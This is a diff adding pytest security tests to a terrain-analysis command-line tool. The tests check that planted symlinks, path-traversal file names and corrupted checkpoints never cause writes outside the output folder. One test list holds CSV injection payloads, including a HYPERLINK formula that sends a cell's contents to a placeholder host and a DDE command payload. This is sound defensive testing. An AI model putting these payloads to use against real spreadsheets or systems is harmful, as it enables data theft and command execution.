@@ -910,3 +910,1040 @@ def test_quicklook_of_a_big_grid_is_drawn_in_blocks(cairn, dem, tmp_path, monkey
     assert code == 0, err
     with Image.open(tmp_path / "o" / "quicklook.png") as im:
         assert im.size[0] > 300
+
+
+# =====================================================================================
+# Issue 25: nothing outside the folder, no silent wrong answer. Each case: exit code,
+# the one line, what is left on disk, and that nothing outside the folder changed.
+# =====================================================================================
+def tree(folder):
+    """Every entry under ``folder`` (links not followed) with its kind and bytes."""
+    out = {}
+    for root, dirs, files in os.walk(folder):
+        for name in dirs + files:
+            p = os.path.join(root, name)
+            rel = os.path.relpath(p, folder)
+            if os.path.islink(p):
+                out[rel] = ("link", os.readlink(p))
+            elif os.path.isdir(p):
+                out[rel] = ("dir", None)
+            else:
+                with open(p, "rb") as fh:
+                    out[rel] = ("file", fh.read())
+    return out
+
+
+@pytest.fixture
+def outside(tmp_path):
+    """A folder beside the output folder holding a user's files (the victims)."""
+    v = tmp_path / "outside"
+    v.mkdir()
+    (v / "victim.txt").write_text("the user's own text\n")
+    (v / "notes.csv").write_text("a,b\n1,2\n")
+    return v
+
+
+def outputs_of(out):
+    return sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) if out.exists() else []
+
+
+# -- 1. the lock is never followed --------------------------------------------------------
+@pytest.mark.parametrize("plant", ["symlink", "dangling", "hardlink", "folder", "fifo"])
+def test_a_planted_lock_entry_is_never_written_through(cairn, dem, tmp_path, outside, plant):
+    out = tmp_path / "o"
+    out.mkdir()
+    lock = out / ".cairn.lock"
+    if plant == "symlink":
+        lock.symlink_to(outside / "victim.txt")
+    elif plant == "dangling":
+        lock.symlink_to(outside / "created-by-cairn.txt")
+    elif plant == "hardlink":
+        os.link(outside / "victim.txt", lock)
+    elif plant == "folder":
+        lock.mkdir()
+    else:
+        os.mkfifo(lock)
+    before = tree(outside)
+    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
+    no_traceback(err)
+    one_line_error(code, err, ".cairn.lock", "not a cairn lock file" if plant != "symlink"
+                   and plant != "dangling" else "symbolic link")
+    assert tree(outside) == before  # the target holds its text; no file was created there
+    assert outputs_of(out) == []
+
+
+def test_a_planted_checkpoint_lock_is_never_written_through(cairn, dem, tmp_path, outside):
+    (tmp_path / ".ck.npz.lock").symlink_to(outside / "victim.txt")
+    before = tree(outside)
+    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint",
+                         tmp_path / "ck.npz")
+    one_line_error(code, err, ".ck.npz.lock", "symbolic link")
+    assert tree(outside) == before
+    nothing_written(tmp_path / "o")
+
+
+# -- 2. the tidy-up trusts no name it finds ------------------------------------------------
+@pytest.mark.parametrize("names", [
+    ["../../outside/victim.txt"], ["../outside/notes.csv"], ["/etc/hostname"],
+    ["sub/../../outside/victim.txt"], [".."], ["."], [""], [".cairn.lock"], "not a list",
+    [{"name": "victim.txt"}], ["run.json", "../outside/victim.txt"]])
+def test_a_planted_publication_marker_moves_nothing_from_outside(cairn, dem, tmp_path, outside,
+                                                               names):
+    import json
+
+    out = tmp_path / "o"
+    stage = out / ".cairn-staging-planted"
+    stage.mkdir(parents=True)
+    (stage / ".publishing.json").write_text(json.dumps(names))
+    before = tree(outside)
+    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
+    assert code == 0, err
+    assert tree(outside) == before
+    assert not stage.exists()  # a real staging folder of this user: removed
+    assert "victim.txt" not in outputs_of(out) and "notes.csv" not in outputs_of(out)
+
+
+@pytest.mark.parametrize("plant", ["staged file is a link", "staging folder is a link",
+                                   "marker is a link"])
+def test_links_in_a_staging_folder_are_never_followed(cairn, dem, tmp_path, outside, plant):
+    import json
+
+    out = tmp_path / "o"
+    out.mkdir()
+    if plant == "staged file is a link":
+        stage = out / ".cairn-staging-x"
+        stage.mkdir()
+        (stage / "summits.csv").symlink_to(outside / "notes.csv")
+        (stage / ".publishing.json").write_text(json.dumps(["summits.csv"]))
+    elif plant == "staging folder is a link":
+        (outside / ".publishing.json").write_text(json.dumps(["notes.csv", "victim.txt"]))
+        (out / ".cairn-staging-x").symlink_to(outside)
+    else:
+        stage = out / ".cairn-staging-x"
+        stage.mkdir()
+        (outside / "marker.json").write_text(json.dumps(["notes.csv"]))
+        (stage / ".publishing.json").symlink_to(outside / "marker.json")
+        os.link(outside / "notes.csv", stage / "notes.csv")
+    before = tree(outside)
+    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
+    assert code == 0, err
+    assert tree(outside) == before
+    assert "notes.csv" not in outputs_of(out)
+    if plant == "staging folder is a link":  # not cairn's: left where it is, untouched
+        assert (out / ".cairn-staging-x").is_symlink()
+    with open(out / "summits.csv") as fh:
+        assert fh.readline().startswith("feature_id")  # cairn's own table, not the user's
+
+
+@pytest.mark.parametrize("name", ["run.json", "summits.csv", "peaks.gpkg", "peaks.gpkg-wal",
+                                  "peaks.gpkg-shm", "summit_credit.tif"])
+def test_links_planted_at_output_names_are_replaced_not_followed(cairn, dem, tmp_path, outside,
+                                                                name):
+    import sqlite3
+
+    out = tmp_path / "o"
+    out.mkdir()
+    con = sqlite3.connect(outside / "their.sqlite")  # a database of the user's, elsewhere
+    con.execute("CREATE TABLE t (a)")
+    con.commit()
+    con.close()
+    target = outside / ("their.sqlite" if name.startswith("peaks.gpkg") else "victim.txt")
+    (out / name).symlink_to(target)
+    before = tree(outside)
+    code, _, err = cairn("peaks", dem, "-o", out, *RUN, "--overwrite")
+    assert code == 0, err
+    assert tree(outside) == before
+    assert not (out / name).is_symlink()
+
+
+def test_publication_markers_name_only_what_cairn_writes():
+    # every file any command publishes passes the marker's name check; nothing with a folder does
+    from terrain.io import OUTPUT_NAME
+    from terrain.outputs.manifest import MANIFEST, file_names
+
+    for command in MANIFEST:
+        for name in file_names(command, ["g1", "a-b_c", "_HYPERLINK__x"]):
+            assert OUTPUT_NAME.match(name), name
+    for bad in ("../x.tif", "a/b.csv", ".hidden.json", "x.sh", "run.json/..", "", "x.tif\n"):
+        assert not OUTPUT_NAME.match(bad), bad
+
+
+# -- 3. inputs are sacred ------------------------------------------------------------------
+@pytest.fixture
+def proj(tmp_path):
+    p = tmp_path / "proj"
+    p.mkdir()
+    write_tif(p / "dem.tif", smooth_terrain((40, 40), seed=1))
+    (p / "outlets.csv").write_text("id,x,y\ng1,500105,6799705\ng2,500305,6799805\n")
+    return p
+
+
+@pytest.mark.parametrize("extra", [("--overwrite",), (), ("--resume",)])
+def test_the_outlets_file_is_never_replaced(cairn, proj, tmp_path, extra):
+    ck = () if extra != ("--resume",) else ("--checkpoint", tmp_path / "ck.npz")
+    before = tree(proj)
+    code, _, err = cairn("catchments", proj / "dem.tif", "--outlets", proj / "outlets.csv", "-o",
+                         proj, *RUN, *extra, *ck)
+    one_line_error(code, err, "outlets.csv", "input", "-o/--outdir")
+    assert tree(proj) == before
+
+
+@pytest.mark.parametrize("where", ["summit_credit.tif", "link to an output", "staging",
+                                   "temporary name"])
+def test_the_dem_is_never_replaced(cairn, tmp_path, where):
+    out = tmp_path / "o"
+    out.mkdir()
+    z = smooth_terrain((40, 40), seed=1)
+    if where == "summit_credit.tif":
+        dem = write_tif(out / "summit_credit.tif", z)
+    elif where == "link to an output":
+        write_tif(out / "summit_credit.tif", z)
+        dem = tmp_path / "dem.tif"
+        dem.symlink_to(out / "summit_credit.tif")
+    elif where == "staging":  # the tidy-up removes staging folders
+        (out / ".cairn-staging-mine").mkdir()
+        dem = write_tif(out / ".cairn-staging-mine" / "dem.tif", z)
+    else:  # the tidy-up removes atomic writes' temporary names
+        dem = write_tif(out / ".dem.tif.abcd1234.part.tif", z)
+    before = tree(tmp_path)
+    code, _, err = cairn("peaks", dem, "-o", out, *RUN, "--overwrite")
+    one_line_error(code, err, "input", "-o/--outdir")
+    assert tree(tmp_path) == before
+
+
+def test_a_dem_a_catchment_run_would_remove_is_refused(cairn, proj):
+    # earlier per-outlet rasters the new set lacks are removed on publication
+    dem = write_tif(proj / "catchment_probability_old.tif", smooth_terrain((40, 40), seed=1))
+    before = tree(proj)
+    code, _, err = cairn("catchments", dem, "--outlets", proj / "outlets.csv", "-o", proj, *RUN,
+                         "--overwrite")
+    one_line_error(code, err, "catchment_probability_old.tif", "input")
+    assert tree(proj) == before
+
+
+def test_a_dem_inside_the_checkpoints_counts_is_refused(cairn, tmp_path):
+    counts = tmp_path / "ck.npz.counts"
+    counts.mkdir()
+    dem = write_tif(counts / "dem.tif", smooth_terrain((40, 40), seed=1))
+    before = tree(tmp_path)
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16",
+                         "--checkpoint", tmp_path / "ck.npz")
+    one_line_error(code, err, "dem.tif", "--checkpoint")
+    assert tree(tmp_path) == before
+
+
+# -- 4. a <checkpoint>.counts that is not cairn's ----------------------------------------------
+@pytest.mark.parametrize("plant", ["folder of files", "link to a folder", "file", "link to a file"])
+@pytest.mark.parametrize("cmd", [("depressions", "--block", "16"), ("peaks",)])
+def test_a_counts_path_that_is_not_cairns_is_never_removed(cairn, dem, tmp_path, outside, plant,
+                                                         cmd):
+    counts = tmp_path / "ck.npz.counts"
+    if plant == "folder of files":
+        counts.mkdir()
+        (counts / "my-notes.txt").write_text("mine\n")
+        (counts / "zarr.json").write_text('{"node_type": "group"}')
+    elif plant == "link to a folder":
+        counts.symlink_to(outside)
+    elif plant == "file":
+        counts.write_text("mine\n")
+    else:
+        counts.symlink_to(outside / "victim.txt")
+    before = tree(tmp_path)
+    code, _, err = cairn(*cmd[:1], dem, "-o", tmp_path / "o", *RUN, *cmd[1:], "--checkpoint",
+                         tmp_path / "ck.npz", "--overwrite")
+    no_traceback(err)
+    one_line_error(code, err, "ck.npz.counts", "not cairn's per-cell counts", "--checkpoint")
+    assert tree(tmp_path) == before
+
+
+# -- 5. spreadsheet formulas in CSV cells --------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
+            "-2+3", "\t=1+2", "\r=1+3", " =1+4", "\uff1d1+5", "=", "@"]
+
+
+def _csv_cells(path):
+    import csv
+
+    with open(path, newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def _executable(cell):
+    from terrain.io import FORMULA_START
+
+    return cell.startswith(FORMULA_START) or cell.lstrip().startswith(FORMULA_START)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "gpkg"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cairn, tmp_path, fmt):
+    # OWASP, "CSV Injection": a cell starting with =, +, -, @, tab or CR may be run; a leading '
+    # makes it text. The GeoPackage keeps the text as given.
+    import csv
+
+    import geopandas as gpd
+    from shapely.geometry import Point
+
+    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((40, 40), seed=1))
+    rows = [(f, 500105.0 + 30 * k, 6799705.0 + 15 * k, f) for k, f in enumerate(FORMULAS)]
+    if fmt == "csv":
+        src = tmp_path / "outlets.csv"
+        with open(src, "w", newline="") as fh:
+            w = csv.writer(fh)
+            w.writerow(["id", "x", "y", "=note"])
+            w.writerows(rows)
+    else:
+        src = tmp_path / "outlets.gpkg"
+        gpd.GeoDataFrame({"id": [r[0] for r in rows], "=note": [r[3] for r in rows]},
+                         geometry=[Point(r[1], r[2]) for r in rows],
+                         crs="EPSG:32633").to_file(src, driver="GPKG")
+    out = tmp_path / "o"
+    code, _, err = cairn("catchments", dem, "--outlets", src, "-o", out, *RUN)
+    assert code == 0, err
+    for name in ("outlets.csv", "catchments.csv", "subcatchments.csv"):
+        cells = _csv_cells(out / name)
+        bad = [c for row in cells for c in row if _executable(c)]
+        assert not bad, (name, bad)
+        ids = [row[0] for row in cells[1:]]  # ids are stripped of blanks (terrain.outlets)
+        assert {i[1:] for i in ids} == {f.strip() for f in FORMULAS}  # each one, behind a '
+        assert "'=note" in cells[0]
+    kept = gpd.read_file(out / "catchments.gpkg", layer="outlets")
+    assert sorted(kept["outlet_id"]) == sorted(f.strip() for f in FORMULAS)  # raw text kept
+    assert "=note" in kept.columns
+
+
+def test_csv_cell_follows_owasp_and_leaves_numbers_alone():
+    import pandas as pd
+
+    from terrain.io import csv_cell, csv_safe
+
+    for f in FORMULAS:
+        assert csv_cell(f) == "'" + f.replace("\r", "\n")
+    assert csv_cell("ok\r=1+1") == "ok\n=1+1"  # never a row of its own (written quoted)
+    for plain in ("gauge 7", "Río Verde", "", "a=b", "7-2"):
+        assert csv_cell(plain) == plain
+    frame = pd.DataFrame({"x": [-5.25, 3.0], "id": ["-1", "g2"], "n": [-3, 4]})
+    got = csv_safe(frame)
+    assert got["x"].tolist() == [-5.25, 3.0] and got["n"].tolist() == [-3, 4]
+    assert got["id"].tolist() == ["'-1", "g2"]
+    assert frame["id"].tolist() == ["-1", "g2"]  # the caller's frame is left as it was
+
+
+# -- 6. a GeoPackage is replaced whole ------------------------------------------------------------
+_HOLD_WAL = """
+import sqlite3, sys, time
+con = sqlite3.connect(sys.argv[1])
+con.execute("PRAGMA journal_mode=WAL")
+con.execute("CREATE TABLE IF NOT EXISTS gis_notes (t TEXT)")
+con.execute("INSERT INTO gis_notes VALUES ('edited in a GIS')")
+con.commit()
+con.execute("SELECT count(*) FROM gis_notes").fetchall()
+print("held", flush=True)
+time.sleep(120)
+"""
+
+
+def _integrity(path):
+    import sqlite3
+
+    con = sqlite3.connect(path)
+    try:
+        return con.execute("PRAGMA integrity_check").fetchall()
+    finally:
+        con.close()
+
+
+def test_a_geopackage_held_by_another_program_is_refused_then_replaced_whole(cairn, dem, done):
+    gpkg = done / "peaks.gpkg"
+    holder = subprocess.Popen([sys.executable, "-c", _HOLD_WAL, str(gpkg)], stdout=subprocess.PIPE,
+                              text=True)
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        assert (done / "peaks.gpkg-wal").exists() and (done / "peaks.gpkg-shm").exists()
+        before = snapshot(done)
+        code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
+        one_line_error(code, err, "peaks.gpkg", "open in another program")
+        assert snapshot(done) == before  # the previous set, its GIS's log included
+    finally:
+        holder.kill()  # the GIS crashes: its -wal and -shm stay behind, stale
+        holder.wait()
+    assert (done / "peaks.gpkg-wal").exists()
+    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
+    assert code == 0, err
+    assert not [p.name for p in done.iterdir() if p.name.startswith("peaks.gpkg-")]
+    assert _integrity(gpkg) == [("ok",)]
+    import pyogrio
+
+    assert {name for name, _ in pyogrio.list_layers(gpkg)} >= {"summits", "cols"}
+
+
+@pytest.mark.parametrize("leftover", ["-journal", "-wal", "-shm"])
+def test_stale_sqlite_files_beside_a_geopackage_are_removed(cairn, dem, done, leftover):
+    (done / f"peaks.gpkg{leftover}").write_bytes(b"\x00" * 4096 + b"stale")
+    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
+    assert code == 0, err
+    assert not (done / f"peaks.gpkg{leftover}").exists()
+    assert _integrity(done / "peaks.gpkg") == [("ok",)]
+
+
+def test_a_geopackage_failing_sqlites_check_is_never_published(cairn, dem, done, monkeypatch):
+    import terrain.io as io
+
+    before = snapshot(done)
+    real = io._check_gpkg
+
+    def damaged(tmp, bands):
+        # a torn b-tree page header (page 2, its cell count): GDAL still lists and reads the
+        # layers, SQLite's integrity check finds the database malformed
+        with open(tmp, "r+b") as fh:
+            fh.seek(4096 + 3)
+            fh.write(b"\xff\xff")
+        return real(tmp, bands)
+
+    monkeypatch.setitem(io._CHECKS, ".gpkg", damaged)
+    code, _, err = cairn("peaks", dem, "-o", done, *RUN, "--seed", "3", "--overwrite")
+    no_traceback(err)
+    one_line_error(code, err, "peaks.gpkg", "malformed")
+    assert snapshot(done) == before
+
+
+# -- 7. a checkpoint is one unit --------------------------------------------------------------------
+BLOCKED = ("--rmse", "1", "--workers", "1", "-q", "--block", "32")
+
+
+@pytest.fixture
+def blocked_ck(cairn, tmp_path):
+    """A blocked depressions run of 4 realisations with its checkpoint and counts."""
+    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((70, 64), seed=3))
+    ck = tmp_path / "ck.npz"
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "first", *BLOCKED, "-n", "4",
+                         "--checkpoint", ck)
+    assert code == 0, err
+    return dem, ck
+
+
+def _chunk_files(store, array):
+    return sorted(p for p in (store / array / "c").rglob("*") if p.is_file())
+
+
+def _damage_store(store, how):
+    import json
+    import shutil
+
+    if how == "missing chunk":
+        _chunk_files(store, "counts_0")[1].unlink()  # 4 realisations: buffer 0 is the live one
+    elif how == "garbage chunk":
+        _chunk_files(store, "counts_0")[2].write_bytes(b"not zstd at all")
+    elif how == "chunk from another block":
+        a, b = _chunk_files(store, "counts_0")[:2]
+        shutil.copy(a, b)
+    elif how == "missing digest":
+        _chunk_files(store, "digest_0")[0].unlink()
+    elif how == "missing stamp":
+        _chunk_files(store, "applied")[0].unlink()
+    elif how == "no identity":
+        meta = json.loads((store / "zarr.json").read_text())
+        meta["attributes"] = {}
+        (store / "zarr.json").write_text(json.dumps(meta))
+    elif how == "store gone":
+        shutil.rmtree(store)
+
+
+@pytest.mark.parametrize("how", ["missing chunk", "garbage chunk", "chunk from another block",
+                                 "missing digest", "missing stamp", "no identity", "store gone"])
+def test_a_damaged_count_store_is_a_damaged_checkpoint(cairn, tmp_path, blocked_ck, how):
+    dem, ck = blocked_ck
+    store = tmp_path / "ck.npz.counts"
+    _damage_store(store, how)
+    before = tree(tmp_path / "first"), ck.read_bytes()
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
+                         "--checkpoint", ck, "--resume")
+    no_traceback(err)
+    one_line_error(code, err, f"{ck}: damaged checkpoint", "--resume")
+    nothing_written(tmp_path / "r")
+    assert (tree(tmp_path / "first"), ck.read_bytes()) == before
+
+
+def test_a_count_store_of_another_run_is_refused(cairn, tmp_path, blocked_ck):
+    import shutil
+
+    dem, ck = blocked_ck
+    other = write_tif(tmp_path / "other.tif", smooth_terrain((70, 64), seed=4))
+    ck2 = tmp_path / "ck2.npz"
+    assert cairn("depressions", other, "-o", tmp_path / "second", *BLOCKED, "-n", "4",
+                 "--checkpoint", ck2)[0] == 0
+    mine, theirs = tmp_path / "ck.npz.counts", tmp_path / "ck2.npz.counts"
+    for array in ("counts_0", "digest_0"):  # one block, with its digest, from the other run
+        chunk = _chunk_files(theirs, array)[0].relative_to(theirs)
+        shutil.copy(theirs / chunk, mine / chunk)
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
+                         "--checkpoint", ck, "--resume")
+    one_line_error(code, err, "damaged checkpoint", "does not match its digest")
+    shutil.rmtree(mine)
+    shutil.copytree(theirs, mine)  # the whole store swapped
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "r", *BLOCKED, "-n", "6",
+                         "--checkpoint", ck, "--resume")
+    one_line_error(code, err, "damaged checkpoint", "another run")
+    nothing_written(tmp_path / "r")
+
+
+def test_a_whole_count_store_resumes_to_the_uninterrupted_run(cairn, tmp_path, blocked_ck):
+    dem, ck = blocked_ck
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "resumed", *BLOCKED, "-n", "6",
+                         "--checkpoint", ck, "--resume", "--block", "16")  # another block: copied
+    assert code == 0, err
+    assert cairn("depressions", dem, "-o", tmp_path / "straight", *BLOCKED, "-n", "6")[0] == 0
+    for name in ("ponding_probability.tif", "pit_credit.tif"):
+        with rasterio.open(tmp_path / "resumed" / name) as a, \
+                rasterio.open(tmp_path / "straight" / name) as b:
+            assert a.read().tobytes() == b.read().tobytes(), name
+
+
+def test_a_checkpoint_in_use_by_another_run_is_refused(cairn, dem, tmp_path):
+    ck = tmp_path / "shared.npz"
+    other = write_tif(tmp_path / "other.tif", smooth_terrain((40, 40), seed=7))
+    holder = subprocess.Popen(  # another cairn run holding the checkpoint, as a running one does
+        [sys.executable, "-c", "import fcntl, os, time; "
+         f"fd = os.open({str(tmp_path / '.shared.npz.lock')!r}, os.O_RDWR | os.O_CREAT); "
+         "os.write(fd, b'4343'); fcntl.flock(fd, fcntl.LOCK_EX); print('held', flush=True); "
+         "time.sleep(60)"], stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        for d, extra in ((dem, ()), (other, ("--overwrite",)), (dem, ("--resume",))):
+            code, _, err = cairn("peaks", d, "-o", tmp_path / "o", *RUN, "--checkpoint", ck, *extra)
+            one_line_error(code, err, "shared.npz", "another cairn run is using this checkpoint",
+                           "process 4343", "--checkpoint")
+            nothing_written(tmp_path / "o")
+        assert not ck.exists()
+    finally:
+        holder.kill()
+        holder.wait()
+    assert cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--checkpoint", ck)[0] == 0
+    assert ck.exists() and not (tmp_path / ".shared.npz.lock").exists()
+
+
+def test_two_runs_on_one_checkpoint_at_once(tmp_path):
+    # two real runs started together on one --checkpoint (different DEMs, different folders):
+    # one runs, the other is refused in one line; neither publishes the other's counts
+    dems = [write_tif(tmp_path / f"d{k}.tif", smooth_terrain((120, 120), seed=k)) for k in (1, 2)]
+    ck = tmp_path / "ck.npz"
+    procs = [subprocess.Popen(CLI + ["depressions", str(d), "-o", str(tmp_path / f"o{k}"), "--rmse",
+                                     "1", "-n", "60", "--workers", "1", "-q", "--block", "64",
+                                     "--checkpoint", str(ck)], stderr=subprocess.PIPE, text=True)
+             for k, d in enumerate(dems)]
+    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
+    codes = sorted(c for c, _ in results)
+    assert codes == [0, 2], results
+    err = next(e for c, e in results if c == 2)
+    no_traceback(err)
+    one_line_error(2, err, "ck.npz", "another cairn run is using this checkpoint")
+    winner = next(k for k, (c, _) in enumerate(results) if c == 0)
+    assert outputs_of(tmp_path / f"o{1 - winner}") == []
+    import json
+
+    run = json.loads((tmp_path / f"o{winner}" / "run.json").read_text())
+    assert run["input"]["path"] == str(dems[winner])
+
+
+# -- 8. scratch folders belong to a lock, not a process number ----------------------------------------
+_HOLD_SCRATCH = """
+import os, sys, time
+from terrain.io import scratch_folder
+with scratch_folder(sys.argv[1]) as f:
+    open(os.path.join(f, "dem.npy"), "wb").write(b"live run's data")
+    print(f, flush=True)
+    time.sleep(120)
+"""
+
+
+def test_a_live_runs_scratch_survives_any_sweep(tmp_path, outside):
+    from terrain.io import SCRATCH_PREFIX, remove_orphan_scratch
+
+    parent = tmp_path / "tmp"
+    parent.mkdir()
+    holder = subprocess.Popen([sys.executable, "-c", _HOLD_SCRATCH, str(parent)],
+                              stdout=subprocess.PIPE, text=True)
+    try:
+        live = holder.stdout.readline().strip()
+        assert os.path.isdir(live)
+        # as seen from another namespace or machine: its process number means nothing there
+        moved = str(parent / f"{SCRATCH_PREFIX}999999-elsewhere")
+        os.rename(live, moved)
+        (parent / f"{SCRATCH_PREFIX}1-nolock").mkdir()  # no lock file: not provably dead
+        (parent / f"{SCRATCH_PREFIX}2-link").symlink_to(outside)
+        (parent / f"{SCRATCH_PREFIX}3-file").write_text("someone's file\n")
+        before = tree(outside)
+        assert remove_orphan_scratch(parent) == []
+        assert os.path.isdir(moved) and (parent / f"{SCRATCH_PREFIX}1-nolock").is_dir()
+        assert tree(outside) == before
+    finally:
+        holder.kill()  # kill -9: the lock goes with the process
+        holder.wait()
+    assert remove_orphan_scratch(parent) == [moved]
+    assert sorted(p.name for p in parent.iterdir()) == [f"{SCRATCH_PREFIX}{k}" for k in
+                                                        ("1-nolock", "2-link", "3-file")]
+    assert tree(outside) == before
+
+
+def test_a_killed_blocked_runs_scratch_is_swept_by_the_next(tmp_path, monkeypatch):
+    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
+    (tmp_path / "tmp").mkdir()
+    dem = write_tif(tmp_path / "d.tif", smooth_terrain((300, 300), seed=2))
+    p = subprocess.Popen(CLI + ["depressions", str(dem), "-o", str(tmp_path / "o"), "--rmse", "1",
+                                "-n", "50", "--workers", "1", "-q", "--block", "64"])
+    deadline = time.time() + 120
+    while time.time() < deadline and not list((tmp_path / "tmp").glob("cairn-blocks-*/dem.npy")):
+        time.sleep(0.05)
+    p.kill()
+    p.wait()
+    assert list((tmp_path / "tmp").glob("cairn-blocks-*"))
+    small = write_tif(tmp_path / "s.tif", smooth_terrain((40, 40), seed=2))
+    r = subprocess.run(CLI + ["depressions", str(small), "-o", str(tmp_path / "o2"), "--rmse", "1",
+                              "-n", "2", "--workers", "1", "-q", "--block", "16"],
+                       capture_output=True, text=True, timeout=300)
+    assert r.returncode == 0, r.stderr
+    assert not list((tmp_path / "tmp").iterdir())
+
+
+# -- 9. scratch space is checked; a full disk is one line ---------------------------------------------
+def test_scratch_space_is_checked_before_a_blocked_run(cairn, tmp_path, monkeypatch):
+    import terrain.io as io
+
+    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
+    (tmp_path / "tmp").mkdir()
+    dem = write_tif(tmp_path / "d.tif", smooth_terrain((60, 60), seed=2))
+    called = []
+    real_read = io._read_to_disk
+    monkeypatch.setattr(io, "_read_to_disk", lambda *a, **k: called.append(1) or real_read(*a, **k))
+    free = {str(tmp_path / "tmp"): 10 * 2**20, str(tmp_path): 10 * 2**40}
+    monkeypatch.setattr(io, "_free_bytes", lambda folder: free.get(str(folder), 10 * 2**40))
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16")
+    one_line_error(code, err, str(tmp_path / "tmp"), "TMPDIR", "MiB", "is free", "--bbox")
+    assert not called and outputs_of(tmp_path / "o") == []
+    assert not list((tmp_path / "tmp").iterdir())
+    # the counts kept beside a checkpoint are checked where they go
+    free[str(tmp_path / "tmp")] = 10 * 2**40
+    free[str(tmp_path / "cks")] = 10 * 2**20
+    (tmp_path / "cks").mkdir()
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16",
+                         "--checkpoint", tmp_path / "cks" / "ck.npz")
+    one_line_error(code, err, str(tmp_path / "cks"), "checkpoint", "--checkpoint")
+    assert not called
+
+
+def test_a_huge_raster_needing_more_scratch_than_the_disk_has_is_refused(cairn, tmp_path):
+    # 150000 x 150000 float32 (a header, no pixels): ~270 GB of scratch files in blocked mode
+    from terrain.io import free_bytes, scratch_parent
+
+    p = tmp_path / "huge.tif"
+    with rasterio.open(p, "w", driver="GTiff", width=150000, height=150000, count=1,
+                       dtype="float32", tiled=True, sparse_ok=True, crs="EPSG:32633",
+                       transform=_affine(10, 0, 0, 0, -10, 2e6)):
+        pass
+    if free_bytes(scratch_parent()) > 300 * 2**30:
+        pytest.skip("this machine has the room")
+    t = time.time()
+    code, _, err = cairn("peaks", p, "-o", tmp_path / "o", *RUN, "--block", "1024", "--force")
+    one_line_error(code, err, "GiB of free space", "GiB is free", "TMPDIR")
+    assert time.time() - t < 60
+    nothing_written(tmp_path / "o")
+
+
+def test_a_tmpdir_that_is_not_a_folder_is_refused(cairn, dem, tmp_path, monkeypatch):
+    monkeypatch.setenv("TMPDIR", str(tmp_path / "missing"))
+    code, _, err = cairn("depressions", dem, "-o", tmp_path / "o", *RUN, "--block", "16")
+    one_line_error(code, err, "TMPDIR=", "missing", "not a writable folder")
+    nothing_written(tmp_path / "o")
+
+
+_SKIP_SPACE_CHECK = ("import terrain.io as io, terrain.resources as r, cairn_cli.execute as e; "
+                     "e.check_disk = lambda *a, **k: None; io.check_scratch_space = "
+                     "lambda *a, **k: None; from cairn_cli.main import run; run()")
+
+
+@pytest.mark.parametrize("size,checkpoint", [("96k", False), ("400k", False), ("600k", True)])
+def test_a_full_tmpdir_during_a_blocked_run_is_one_line(tmp_path, size, checkpoint):
+    # a real full file system (a tmpfs in a private mount namespace) under TMPDIR, the space
+    # check bypassed: every write there -- DEM, labels, realisation, counts -- fails in one line
+    if not _can_mount_tmpfs(tmp_path):
+        pytest.skip("cannot mount a tmpfs here (needs unshare -rm)")
+    dem = write_tif(tmp_path / "dem.tif", smooth_terrain((150, 150), seed=1))
+    full = tmp_path / "full"
+    full.mkdir()
+    ck = f"--checkpoint {full}/ck.npz" if checkpoint else ""
+    run = " ".join(f"'{a}'" for a in [sys.executable, "-c", _SKIP_SPACE_CHECK])
+    script = (f"mount -t tmpfs -o size={size} tmpfs {full} && export TMPDIR={full} && "
+              f"{run} depressions {dem} -o {tmp_path}/o --rmse 1 -n 3 --workers 1 -q --block 32 "
+              f"{ck}; echo rc=$?; ls -A {full}")
+    r = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True,
+                       timeout=300)
+    no_traceback(r.stderr)
+    one_line_error(2, r.stderr, "disk full", str(full))
+    assert "rc=2" in r.stdout, (r.stdout, r.stderr)  # not a bus error (135)
+    left = r.stdout.split("rc=2", 1)[1].split()
+    assert [x for x in left if x.startswith("cairn-blocks") or x.startswith(".cairn")] == [], left
+    assert not (tmp_path / "o").exists()
+
+
+# -- 10. the guard counts the correlated error's kernel ----------------------------------------------
+@pytest.mark.parametrize("cmd", ["peaks", "depressions", "catchments"])
+@pytest.mark.parametrize("rng", ["1e9", "5000", "601"])
+def test_a_correlation_range_longer_than_the_grid_is_refused(cairn, dem, tmp_path, cmd, rng):
+    # the 40 x 40 test grid of 10 m cells is 400 m across
+    t = time.time()
+    code, _, err = cairn(cmd, dem, "-o", tmp_path / "o", *RUN, "--range", rng)
+    no_traceback(err)
+    one_line_error(code, err, "dem.tif", "--range", "longer than the grid's extent (400 m)",
+                   "at most 400 m")
+    assert time.time() - t < 30
+    nothing_written(tmp_path / "o")
+
+
+def test_a_range_as_long_as_the_grid_runs(cairn, dem, tmp_path):
+    code, _, err = cairn("peaks", dem, "-o", tmp_path / "o", *RUN, "--range", "400")
